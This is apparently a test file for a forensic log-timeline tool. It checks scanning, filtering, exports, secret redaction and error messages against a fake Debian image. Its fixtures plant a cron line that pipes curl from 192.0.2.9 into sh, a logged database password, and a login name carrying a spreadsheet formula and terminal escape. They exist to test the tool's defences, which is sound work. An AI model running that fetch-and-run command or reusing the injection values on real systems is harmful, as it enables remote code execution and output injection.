/** Logs of a folder and of a log server, from the scan to the timeline and its exports. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { mkdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { displayWidth } from '../../src/report/width.ts';
import { demine, folderIn, type LabHost, openLabHost } from '../lab/harness.ts';
import type { Finished } from '../lab/host.ts';

let host: LabHost;
beforeAll(async () => {
  host = await openLabHost();
  image();
  server();
});
afterAll(async () => {
  await host.stop();
});

const run = (...args: readonly string[]): Promise<Finished> => demine(host, args);

function put(root: string, path: string, content: string | Uint8Array, written: string): void {
  const to = join(root, path);
  mkdirSync(dirname(to), { recursive: true });
  writeFileSync(to, content);
  utimesSync(to, new Date(written), new Date(written));
}

const failed = (time: string, account: string): string =>
  `${time} web-1 sshd[12]: Failed password for invalid user ${account} from 192.0.2.7 port 50000 ssh2\n`;
const accepted = (time: string): string =>
  `${time} web-1 sshd[13]: Accepted password for root from 192.0.2.7 port 50001 ssh2\n`;

function image(): void {
  const root = folderIn(host, 'mnt/web');
  for (const folder of ['etc', 'usr', 'var/lib']) mkdirSync(join(root, folder), { recursive: true });
  put(root, 'etc/os-release', 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n', '2024-01-01T00:00:00Z');
  put(root, 'etc/hostname', 'web-1\n', '2024-01-01T00:00:00Z');
  put(root, 'etc/timezone', 'Etc/UTC\n', '2024-01-01T00:00:00Z');
  put(
    root,
    'var/log/auth.log.2.gz',
    gzipSync(failed('Dec 31 23:00:00', 'a') + failed('Dec 31 23:00:01', 'b')),
    '2023-12-31T23:00:01Z',
  );
  put(
    root,
    'var/log/auth.log.1',
    `${accepted('Jan  1 00:10:00')}Jan  1 00:11:00 web-1 sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/mysql -u root -pzqSecret77 shop\n`,
    '2024-01-01T00:11:00Z',
  );
  put(
    root,
    'var/log/auth.log',
    failed('Jan  2 04:00:00', '=HYPERLINK("x")\x1b[2J|密码 from 198.51.100.9 port 1 ssh2'),
    '2024-01-02T04:00:00Z',
  );
  put(
    root,
    'var/log/cron',
    'Jan  2 05:00:00 web-1 CROND[3]: (root) CMD (curl -s http://192.0.2.9/x | sh)\n',
    '2024-01-02T05:00:00Z',
  );
}

function server(): void {
  const root = folderIn(host, 'srv/logs');
  put(
    root,
    'remote/db-1/messages',
    '2024-01-03T00:00:00Z db-1 kernel: Linux version 6.1\n',
    '2024-01-03T00:00:00Z',
  );
  put(root, 'remote/note.txt', 'no log\n', '2024-01-03T00:00:00Z');
}

const caseFolder = '/run/case-timeline';
const timeline = (...args: readonly string[]): Promise<Finished> =>
  run('timeline', caseFolder, '--lang', 'en', ...args);
const rowsOf = (stdout: string): readonly string[] => stdout.split('\n').filter((row) => /^\d{4}-/.test(row));

describe('the timeline of a case', () => {
  beforeAll(async () => {
    const { code, stderr } = await run('scan', '/mnt/web', '--out', caseFolder, '--lang', 'en');
    expect({ code: code < 2 || code === 3, stderr }).toEqual({ code: true, stderr: '' });
  });

  test('shows logs and events in both languages, in 80 columns, by time and over the turn of the year', async () => {
    for (const language of ['en', 'zh-CN']) {
      const { code, stdout, stderr } = await run('timeline', caseFolder, '--lang', language);
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
      expect(stdout.split('\n').filter((row) => displayWidth(row) > 80)).toEqual([]);
      expect(stdout).toContain('/var/log/auth.log.2.gz');
      expect(stdout).not.toContain('\x1b');
      expect(rowsOf(stdout).map((row) => row.slice(0, 16))).toEqual([
        '2023-12-31 23:00',
        '2024-01-01 00:10',
        '2024-01-01 00:11',
        '2024-01-02 04:00',
        '2024-01-02 05:00',
      ]);
    }
  });

  test('is narrowed by time, kind, text and pattern', async () => {
    expect(rowsOf((await timeline('--from', '2024-01-01', '--to', '2024-01-01')).stdout)).toHaveLength(2);
    expect(rowsOf((await timeline('--kind', 'job')).stdout)).toHaveLength(1);
    expect(rowsOf((await timeline('--grep', 'Accepted')).stdout)).toHaveLength(1);
    expect(rowsOf((await timeline('--regex', 'curl .* \\| sh')).stdout)).toHaveLength(1);
    expect(rowsOf((await timeline('--host', 'nowhere')).stdout)).toEqual([]);
  });

  test('holds no secret, in the case and in no export', async () => {
    const { stdout } = await timeline('--format', 'jsonl');
    expect(stdout).toContain('mysql -u root -p***');
    expect(readFileSync(join(host.root, caseFolder, 'case.sqlite')).includes('zqSecret77')).toBe(false);
  });

  test('keeps secrets where that was asked for', async () => {
    await run('scan', '/mnt/web', '--out', '/run/case-secrets', '--keep-secrets', '--lang', 'en');
    expect((await run('timeline', '/run/case-secrets', '--format', 'jsonl')).stdout).toContain('zqSecret77');
  });

  test('is exported in four formats to a file of its owner alone', async () => {
    for (const format of ['jsonl', 'csv', 'bodyfile', 'l2t']) {
      const file = `/run/timeline.${format}`;
      const { code, stdout, stderr } = await timeline('--format', format, '--out', file);
      expect({ code, stdout, stderr }).toEqual({ code: 0, stdout: '', stderr: '' });
      expect(statSync(join(host.root, file)).mode & 0o777).toBe(0o600);
      const lines = readFileSync(join(host.root, file), 'utf8').trimEnd().split('\n');
      expect(lines).toHaveLength(format === 'csv' || format === 'l2t' ? 7 : 6);
      for (const line of lines) expect(line).not.toMatch(/[\x00-\x1f\x7f]/);
    }
    for (const line of (await timeline('--format', 'jsonl')).stdout.trimEnd().split('\n')) {
      expect(JSON.parse(line)).toMatchObject({ hostname: 'web-1', time_certain: true });
    }
    expect((await timeline('--format', 'csv')).stdout).not.toMatch(/(?:^|,)"?=/m);
  });

  test('takes the logs of a log server into it, and tells hosts apart', async () => {
    const added = await run('case', 'add', caseFolder, '/srv/logs', '--lang', 'en');
    expect({ code: added.code, stderr: added.stderr }).toEqual({ code: 0, stderr: '' });
    expect(added.stdout).toContain('1 log read, 1 event added.');
    expect(added.stdout).toContain('1 file left out: no log');
    const { stdout } = await timeline('--host', 'db-1');
    expect(rowsOf(stdout)).toHaveLength(1);
    expect(stdout).toContain('db-1');
  });

  test('of no case, of no file and of no time is refused in words', async () => {
    for (const [args, words] of [
      [['timeline', '/nowhere'], 'is no case that can be opened'],
      [['timeline', '/etc/passwd'], 'is no case that can be opened'],
      [['timeline', caseFolder, '--from', 'soon'], 'is no time such as'],
      [['timeline', caseFolder, '--out', '/nowhere/x'], 'cannot be written'],
    ] as const) {
      const { code, stdout, stderr } = await run(...args, '--lang', 'en');
      expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
      expect(stderr).toContain(words);
      expect(stderr).toMatch(/^demine: .+\n {8}\S.+\n$/);
    }
  });
});

describe('logs and a scan', () => {
  test('are left out where that was asked for, and where no case is written', async () => {
    await run('scan', '/mnt/web', '--out', '/run/case-bare', '--no-logs', '--lang', 'en');
    expect((await run('timeline', '/run/case-bare', '--lang', 'en')).stdout).toContain('No log was read');
  });

  test('of a live host are read into its case', async () => {
    put(host.root, 'var/log/auth.log', accepted('2024-01-01T00:10:00Z'), '2024-01-01T00:10:00Z');
    const { code } = await run(
      'scan',
      '--logs',
      '--out',
      '/run/case-live',
      '--interval',
      '0.3',
      '--lang',
      'en',
    );
    expect(code).toBe(0);
    // The packages of the host were installed, which its own logs tell.
    const logins = await run('timeline', '/run/case-live', '--kind', 'login', '--lang', 'en');
    expect(rowsOf(logins.stdout)).toHaveLength(1);
    const packages = await run('timeline', '/run/case-live', '--kind', 'package', '--lang', 'en');
    expect(rowsOf(packages.stdout).length).toBeGreaterThan(100);
  });
});

describe('what the customer told', () => {
  test('is kept, shown in both languages, and added to', async () => {
    const network = join(host.root, 'run/net.csv');
    writeFileSync(network, 'subnet,zone,reach\n192.0.2.0/24,dmz,office\n198.51.100.0/24,office,*\n');
    const first = await run(
      'case',
      'set',
      caseFolder,
      '--appeared',
      '2024-01-01',
      '--network',
      '/run/net.csv',
      '--lang',
      'en',
    );
    expect({ code: first.code, stderr: first.stderr }).toEqual({ code: 0, stderr: '' });
    await run('case', 'set', caseFolder, '--discovered', '2024-01-02T03:00+08:00');
    for (const language of ['en', 'zh-CN']) {
      const { stdout } = await run('case', 'show', caseFolder, '--lang', language);
      for (const words of [' 2024-01-01\n', '2024-01-01 19:00', '192.0.2.0/24', 'dmz', 'office']) {
        expect(stdout).toContain(words);
      }
      expect(stdout.split('\n').filter((row) => displayWidth(row) > 80)).toEqual([]);
    }
    const wrong = await run('case', 'set', caseFolder, '--handled', '2023-01-01', '--lang', 'en');
    expect(wrong.stderr).toContain('--handled lies before --discovered.');
    writeFileSync(network, '192.0.2.0/24,dmz,offcie\n');
    for (const [language, words] of [
      ['en', 'line 1: "offcie" is no zone'],
      ['zh-CN', '第 1 行“offcie”'],
    ] as const) {
      const { code, stderr } = await run(
        'case',
        'set',
        caseFolder,
        '--network',
        '/run/net.csv',
        '--lang',
        language,
      );
      expect(code).toBe(2);
      expect(stderr).toContain(words);
    }
  });
});
